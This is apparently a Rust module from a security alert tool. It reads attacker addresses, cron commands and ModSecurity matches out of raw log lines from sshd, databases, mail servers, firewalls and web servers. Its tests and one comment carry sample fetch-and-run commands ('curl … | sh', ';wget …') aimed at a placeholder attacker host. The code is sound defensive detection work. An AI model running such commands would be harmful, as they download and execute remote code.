//! What a log line says where no decoder took it apart.

use std::net::IpAddr;

use crate::{Alert, address};

/// Where a log line says that something came from.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) struct Source<'a> {
    /// Address, in the line's own form.
    pub(crate) text: &'a str,
    /// The same, read.
    pub(crate) ip: IpAddr,
    /// Port.
    pub(crate) port: Option<u16>,
}

/// Reads the far end out of a line of the system log, if the alert's fields name none.
///
/// Of several the last counts: the program that writes a line puts the address behind whatever the other side chose.
pub(crate) fn source(alert: &Alert) -> Option<Source<'_>> {
    let line = alert.full_log()?;
    // JSON has been taken apart already.
    if is_json(line) {
        return None;
    }
    source_in(line)
}

/// Reads the client out of the one value that a classic event of SQL Server has: the server writes it behind all that the client chose.
pub(crate) fn client_of_sql_server(alert: &Alert) -> Option<IpAddr> {
    let provider = alert.text_of("data.win.system.providerName")?;
    let text = alert
        .text_of("data.win.eventdata.data")
        .filter(|_| provider.starts_with("MSSQL"))?;
    let (_, client) = text.rsplit_once("[CLIENT: ")?;
    address::parse(client.split(']').next()?).map(|(ip, _)| ip)
}

/// Reads the client out of a refused log-on, or of the ban of one, that no decoder took apart: only from directly behind the mark of the
/// program that wrote the line. What the client chose (an account, a greeting) may hold addresses as well as marks, so whatever is not
/// exactly as that program writes it counts for nothing.
pub(crate) fn client_at_mark(alert: &Alert) -> Option<IpAddr> {
    // Names of files are anybody's.
    let is_of_files = alert.get("syscheck").is_some()
        || [alert.decoder(), alert.location()]
            .into_iter()
            .flatten()
            .any(|name| name.starts_with("syscheck") || name == "rootcheck");
    let line = alert.full_log().filter(|line| !is_of_files && !is_json(line))?;
    client_in(line.trim_end())
}

fn client_in(line: &str) -> Option<IpAddr> {
    const READERS: [fn(&str) -> Option<&str>; 7] = [mysql, postgresql, exim, fail2ban, esxi, fortigate, asa];
    let client = READERS.iter().find_map(|read| read(line))?;
    address::parse(client).map(|(ip, _)| ip)
}

/// `Access denied for user 'root'@'203.0.113.9' (using password: YES)`, which ends the line.
fn mysql(line: &str) -> Option<&str> {
    let (before, account) = line.split_once("Access denied for user '")?;
    if !["[Note]", "[Warning]", "[ERROR]", "Connect", "mysqld[", "mariadbd["]
        .iter()
        .any(|mark| before.contains(mark))
    {
        return None;
    }
    let account = ["YES)", "NO)"].iter().find_map(|end| account.strip_suffix(end))?;
    let account = account.strip_suffix("' (using password: ")?;
    Some(account.rsplit_once("'@'")?.1)
}

/// `203.0.113.9(40000) ` in what is set to stand in front of `FATAL`. Account and database may stand there, too: with marks of their own,
/// or the account as it is told behind.
fn postgresql(line: &str) -> Option<&str> {
    let (head, told) = line.split_once("FATAL:  ")?;
    let (method, account) = told.split_once(" authentication failed for user \"")?;
    let mut ends = head.split(' ').filter_map(|word| {
        let (client, port) = word.strip_suffix(')')?.rsplit_once('(')?;
        port.parse::<u16>().ok()?;
        Some((client, word))
    });
    let (client, word) = ends.next().filter(|_| ends.next().is_none())?;
    let (before, _) = head.split_once(word)?;
    let account = account.strip_suffix('"')?;
    let is_told_before = before.contains(['@', '=']) || before.contains(&format!(" {account} "));
    let is_chosen = account.contains(client) || account.contains("FATAL");
    (!method.contains(' ') && !is_told_before && !is_chosen).then_some(client)
}

/// `dovecot_login authenticator failed for mail.example.org (greeting) [203.0.113.9]:35686: 535 …`, behind date and time.
fn exim(line: &str) -> Option<&str> {
    let (before, after) = line.split_once(" authenticator failed for ")?;
    let mut stamps = before.split(' ').rev().skip(1);
    let is_stamped =
        before.contains(' ') && stamps.all(|stamp| stamp.starts_with(|c: char| c.is_ascii_digit() || c == '['));
    let (name, greeting) = after.split_once('(')?;
    let (greeting, client) = greeting.split_once(") [")?;
    let (client, rest) = client.split_once(']')?;
    let is_sound = is_stamped && !name.contains(['[', ':']) && !greeting.contains(") ") && !rest.contains(") [");
    (is_sound && rest.starts_with([':', ' '])).then_some(client)
}

/// `fail2ban.actions [700]: NOTICE [sshd] Ban 203.0.113.9`, which ends the line.
fn fail2ban(line: &str) -> Option<&str> {
    let (before, client) = line.rsplit_once("] Ban ")?;
    before.contains("fail2ban.actions").then_some(client)
}

/// `Event 77 : Cannot login root@203.0.113.9`, which ends the line.
fn esxi(line: &str) -> Option<&str> {
    let (before, account) = line.split_once(" : Cannot login ")?;
    let (_, client) = account.rsplit_once('@')?;
    before.contains("Event ").then_some(client)
}

/// `ui=ssh(203.0.113.9)` of a log-on, once and outside quotes.
fn fortigate(line: &str) -> Option<&str> {
    let (before, after) = line.split_once(" ui=")?;
    let is_of_fortigate = ["devname=", "logid=", "log_id="]
        .iter()
        .any(|mark| before.contains(mark));
    let is_outside = is_of_fortigate && before.matches('"').count().is_multiple_of(2) && !after.contains(" ui=");
    let is_logon = [" action=login ", " action=\"login\" "]
        .iter()
        .any(|action| after.contains(action));
    let (interface, client) = after.split_once('(')?;
    let interface = interface.strip_prefix('"').unwrap_or(interface);
    let is_sound = is_outside && is_logon && interface.bytes().all(|byte| byte.is_ascii_alphanumeric());
    is_sound.then_some(client.split_once(')')?.0)
}

/// `%ASA-6-113005: AAA user authentication Rejected : … : user = bob : user IP = 203.0.113.9`, which ends the line.
fn asa(line: &str) -> Option<&str> {
    let (before, client) = line.rsplit_once(" : user IP = ")?;
    before.contains("%ASA-").then_some(client)
}

/// The command that cron ran, as it says itself: `CRON[123]: (root) CMD (curl -s http://evil.example/x | sh)`.
pub(crate) fn command_of_cron(alert: &Alert) -> Option<&str> {
    let program = alert
        .text_of("predecoder.program_name")
        .filter(|program| is_cron(program));
    let line = alert.full_log().filter(|_| program.is_some())?;
    command_in(line.trim_end())
}

fn is_cron(program: &str) -> bool {
    let program = program.rsplit('/').next().unwrap_or(program);
    ["cron", "crond"].iter().any(|name| name.eq_ignore_ascii_case(program))
}

fn command_in(line: &str) -> Option<&str> {
    let (head, told) = line.split_once("]: (")?;
    let (program, _number) = head.rsplit_once('[')?;
    let program = program.rsplit([' ', '/']).next()?;
    let (account, command) = told.split_once(") CMD (")?;
    let command = command.strip_suffix(')')?.trim();
    let is_sound = is_cron(program) && !head.contains(": ") && !account.contains(char::is_whitespace);
    (is_sound && !command.is_empty()).then_some(command)
}

/// What `ModSecurity` found in a request that it takes for an attack which makes a server run or fetch something: rules 931 to 934 and 944 of
/// the core rule set.
pub(crate) fn matched_by_modsecurity(alert: &Alert) -> Option<&str> {
    matched_in(alert.full_log()?)
}

fn matched_in(line: &str) -> Option<&str> {
    const KINDS: [&str; 5] = ["931", "932", "933", "934", "944"];
    // That there is a whole address in a parameter: where somebody comes back to, mostly.
    const REDIRECT: &str = "931130";
    let (head, told) = line.split_once(" ModSecurity: ")?;
    // What the client sent stands before the fields that the program adds, or behind them where nginx adds its own. The program writes
    // quotation marks of the request as `\x22`, so that nobody else ends them.
    let told = told.split("\"], client: ").next().unwrap_or(told);
    let (_, id) = told.rsplit_once("[id \"")?;
    let (id, behind) = id.split_once("\"]")?;
    let is_attack = id.len() == 6 && id != REDIRECT && KINDS.iter().any(|kind| id.starts_with(kind));
    let (_, data) = behind
        .split_once("[data \"Matched Data: ")
        .filter(|_| is_attack && is_head_of_httpd(head))?;
    // Quotation marks of the request are written as `\x22`.
    let (data, _) = data.split('"').next()?.split_once(" found within ")?;
    Some(data)
}

/// Whether a head is one that the web server writes: groups in brackets, one of them the client's, behind what syslog or nginx puts first.
fn is_head_of_httpd(head: &str) -> bool {
    let groups = match head.trim_start() {
        head if head.starts_with('[') => Some(head),
        head => head.split_once(": ").map(|(_, groups)| groups),
    };
    let Some(mut rest) = groups else { return false };
    if let Some(numbered) = rest.strip_prefix('*') {
        rest = numbered.trim_start_matches(|c: char| c.is_ascii_digit()).trim_start();
    }
    let mut has_client = false;
    while let Some((group, behind)) = rest.strip_prefix('[').and_then(|rest| rest.split_once(']')) {
        has_client |= group.starts_with("client ");
        rest = behind.trim_start();
    }
    has_client && rest.is_empty()
}

/// Says whether a line is an object, or a list of objects, lists or texts: web servers and kernels begin with `[` too.
fn is_json(line: &str) -> bool {
    let line = line.trim_start();
    line.starts_with('{')
        || line
            .strip_prefix('[')
            .is_some_and(|list| list.trim_start().starts_with(['{', '[', '"']))
}

/// Reads the account that was tried or used out of a line of the SSH server.
pub(crate) fn account(alert: &Alert) -> Option<&str> {
    let line = alert.full_log().filter(|line| line.contains("sshd"))?;
    let (before, _) = line.rsplit_once(" from ")?;
    let (head, name) = ["invalid user ", "Invalid user ", " user ", " for "]
        .iter()
        .find_map(|word| before.rsplit_once(word))?;
    let tried = [
        "Failed ",
        "Accepted ",
        "nvalid",
        "nvalid user",
        "Disconnected",
        "Connection",
        "Postponed",
    ];
    let sound = !name.is_empty() && name.len() <= 256 && !name.contains(char::is_whitespace);
    (sound && tried.iter().any(|word| line.contains(word)) && !head.is_empty()).then_some(name)
}

fn source_in(line: &str) -> Option<Source<'_>> {
    const MARKS: [&str; 4] = [" from ", "rhost=", " SRC=", "client "];
    if let Some(client) = client_of_httpd(line) {
        return end_in(client);
    }
    if let Some(client) = client_of_nginx(line) {
        return end_in(client);
    }
    MARKS.iter().find_map(|mark| end_in(line.rsplit_once(mark)?.1))
}

/// What stands behind `[client ` in the head of a line of httpd: there it comes before all that the client chose.
fn client_of_httpd(line: &str) -> Option<&str> {
    // Where the line went through syslog, the name of the program comes first.
    let mut rest = match line.trim_start() {
        line if line.starts_with('[') => line,
        line => line.split_once(": ")?.1,
    };
    while let Some(group) = rest.strip_prefix('[') {
        if let Some(client) = group.strip_prefix("client ") {
            return Some(client);
        }
        rest = group.split_once(']')?.1.trim_start();
        // An error of the system may stand between: `(13)Permission denied: `.
        if rest.starts_with('(') {
            rest = rest.split_once(": ")?.1;
        }
    }
    None
}

/// What stands behind `, client: ` in an error of nginx. What the client chose stands before and behind it; where that says the same once
/// more, nothing tells them apart.
fn client_of_nginx(line: &str) -> Option<&str> {
    let (before, client) = line.split_once(", client: ")?;
    let is_of_nginx = before.contains("] ") && client.contains(", server: ");
    (is_of_nginx && !client.contains(", client: ")).then_some(client)
}

/// Reads the address at the start of a text, and its port.
fn end_in(after: &str) -> Option<Source<'_>> {
    let word = after.split([' ', ',', ';', ']', '#', ')', '\t']).next()?;
    let word = word.trim_end_matches([':', '.']);
    let (ip, port) = address::parse(word)?;
    let named = after[word.len()..].trim_start().strip_prefix("port ");
    let digits = named.map(|after| after.split(|c: char| !c.is_ascii_digit()).next().unwrap_or(""));
    let port = port.or_else(|| digits?.parse().ok());
    Some(Source { text: word, ip, port })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_far_end_is_read_from_lines_of_many_programs() {
        for (line, ip, port) in [
            (
                "Jan 20 sshd[1]: Failed password for root from 203.0.113.9 port 4022 ssh2",
                "203.0.113.9",
                Some(4022),
            ),
            (
                "sshd[1]: Failed password for invalid user x from 8.8.8.8 from 203.0.113.9 port 22 ssh2",
                "203.0.113.9",
                Some(22),
            ),
            (
                "pam_unix(sshd:auth): authentication failure; ruser= rhost=203.0.113.9  user=root",
                "203.0.113.9",
                None,
            ),
            (
                "[error] [client 203.0.113.9:51000] AH01618: user x not found",
                "203.0.113.9",
                Some(51_000),
            ),
            (
                "[Tue Jan 20 09:02:17 2026] [error] [client 203.0.113.9] File does not exist: /x from 8.8.8.8 [client 8.8.8.8]",
                "203.0.113.9",
                None,
            ),
            (
                "Jan 20 web httpd[7]: [core:error] [pid 7] (13)Permission denied: [client 203.0.113.9:0] AH00035: /x rhost=8.8.8.8",
                "203.0.113.9",
                Some(0),
            ),
            (
                "sshd[1]: Invalid user x] [client 8.8.8.8 from 203.0.113.9 port 22",
                "203.0.113.9",
                Some(22),
            ),
            (
                "kernel: [UFW BLOCK] IN=eth0 SRC=203.0.113.9 DST=10.0.0.1 LEN=40",
                "203.0.113.9",
                None,
            ),
            ("named[1]: client 203.0.113.9#4022: query denied", "203.0.113.9", None),
            (
                "2026/01/20 10:00:00 [error] 7#7: *1 open() \"/var/www/x from 8.8.8.8\" failed (2: No such file or directory), client: 203.0.113.9, server: www.example.org, request: \"GET /x HTTP/1.1\", host: \"8.8.8.8\"",
                "203.0.113.9",
                None,
            ),
            (
                "sshd[1]: Connection closed by invalid user x 203.0.113.9 from 2001:db8::7 port 1 [preauth]",
                "2001:db8::7",
                Some(1),
            ),
        ] {
            let source = source_in(line).unwrap();
            assert_eq!((source.ip, source.port), (ip.parse().unwrap(), port), "{line}");
        }
        for line in [
            "mail from eve to bob",
            "rhost=",
            "update from 1.2 to 1.3",
            "from  203.0.113.999",
            "2026/01/20 10:00:00 [error] 7#7: *1 open() \"/x, client: 8.8.8.8, server: y\" failed, client: 203.0.113.9, server: z",
            "app: done, client: 203.0.113.9",
        ] {
            assert_eq!(source_in(line), None, "{line}");
        }
    }

    #[test]
    fn what_cron_ran_is_read_from_its_own_lines() {
        for line in [
            "Jan 20 09:02:17 lnx5 CRON[123]: (root) CMD (curl -s http://evil.example/x | (sh))",
            "Jan 20 09:02:17 lnx5 /usr/sbin/crond[123]: (root) CMD ( curl -s http://evil.example/x | (sh))",
        ] {
            assert_eq!(command_in(line), Some("curl -s http://evil.example/x | (sh)"), "{line}");
        }
        for line in [
            "Jan 20 09:02:17 lnx5 app[1]: (root) CMD (x)",
            "Jan 20 09:02:17 lnx5 app[1]: CRON[123]: (root) CMD (x)",
            "Jan 20 09:02:17 lnx5 crontab[1]: (root) REPLACE (root)",
            "CRON[1]: (a b) CMD (x)",
            "CRON[1]: (root) CMD ()",
        ] {
            assert_eq!(command_in(line), None, "{line}");
        }
    }

    #[test]
    fn what_modsecurity_matched_ends_before_where_it_was_found() {
        const APACHE: &str =
            "[Tue Jan 20 09:02:17 2026] [security2:error] [pid 1] [client 203.0.113.9:5] [client 203.0.113.9]";
        const NGINX: &str = "2026/01/20 10:00:00 [error] 7#7: *1 [client 203.0.113.9]";
        const TOLD: &str =
            r"Matched Data: ;wget http://evil.example/x found within ARGS:q: 1;wget http://evil.example/x";
        let line = |head: &str, id: &str, data: &str| {
            format!(
                r#"{head} ModSecurity: Access denied with code 403 (phase 2). [file "/x.conf"] [id "{id}"] [data "{data}"] [uri "/"]"#
            )
        };
        for head in [APACHE, NGINX, &format!("Jan 20 web httpd[7]: {APACHE}")] {
            assert_eq!(
                matched_in(&line(head, "932100", TOLD)),
                Some(";wget http://evil.example/x"),
                "{head}"
            );
        }
        for (head, id, data) in [
            (APACHE, "920350", TOLD),
            (APACHE, "931130", TOLD),
            (APACHE, "93210", TOLD),
            (APACHE, "9321000", TOLD),
            (APACHE, "932100", "8.8.8.8"),
            (APACHE, "932100", "Matched Data: 8.8.8.8"),
            ("sshd[1]: Invalid user", "932100", TOLD),
            ("sshd[1]: [client 203.0.113.9] x", "932100", TOLD),
            ("", "932100", TOLD),
        ] {
            let line = line(head, id, data);
            assert_eq!(matched_in(&line), None, "{line}");
        }
        // What the client sent names another rule than the program.
        let referrer = format!(r#", client: 203.0.113.9, server: x, referrer: "[id "932100"] [data "{TOLD}""#);
        assert_eq!(matched_in(&(line(NGINX, "920350", "x") + &referrer)), None);
        let referrer = r#", client: 203.0.113.9, server: x, referrer: "[id "1"]""#;
        assert!(matched_in(&(line(NGINX, "932100", TOLD) + referrer)).is_some());
        // Nor does he hide what it matched.
        let hidden = TOLD.replace("x found within", "x, client: 1 found within");
        assert!(matched_in(&line(APACHE, "932100", &hidden)).is_some());
        let sent =
            line(APACHE, "920350", "x").replace("(phase 2).", &format!(r#"(Value: `[id "932100"] [data "{TOLD}"]')"#));
        assert_eq!(matched_in(&sent), None);
    }
}
